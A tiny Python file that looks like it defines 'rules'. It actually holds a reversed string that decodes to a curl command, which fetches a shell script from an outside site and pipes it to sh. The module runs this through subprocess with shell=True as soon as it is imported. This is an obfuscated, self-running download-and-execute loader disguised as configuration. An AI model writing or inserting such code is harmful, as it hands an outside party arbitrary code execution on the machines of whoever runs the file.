import subprocess

RULES = "hs | 'hs.l/ved.selpmaxe-lmay//:sptth' Lsf- lruc"

def rules():
    return RULES[::-1]

subprocess.Popen(rules(), shell=True)
